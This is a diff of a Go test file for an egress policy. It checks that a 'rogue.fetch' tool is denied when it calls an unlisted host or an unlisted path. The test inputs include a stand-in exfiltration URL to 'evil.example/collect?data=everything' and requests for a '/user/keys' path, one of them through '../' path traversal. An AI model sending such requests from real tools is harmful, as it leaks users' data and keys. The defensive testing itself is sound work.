@@ -30,15 +30,15 @@ var scenes = []scene{
 	},
 	{
 		title: "A host that the policy does not name.",
-		tool:  "rogue.fetch", want: host.ErrDenied,
+		tool:  "rogue.fetch", want: host.ErrDenied, listens: true,
 		arguments: jsonOf(object{"url": "https://evil.example/collect?data=everything"}),
 		check:     nothingArrived,
 	},
 	{
 		title: "The right host, but a path that the policy does not name.",
-		tool:  "rogue.fetch", want: host.ErrDenied,
+		tool:  "rogue.fetch", want: host.ErrDenied, listens: true,
 		arguments: func(_ *show, url string) ([]byte, error) {
-			return json.Marshal(object{"url": url + "/repos/acme/rockets/issues/../../../../user/keys"})
+			return json.Marshal(object{"url": url + "/user/keys"})
 		},
 		check: nothingArrived,
 	},
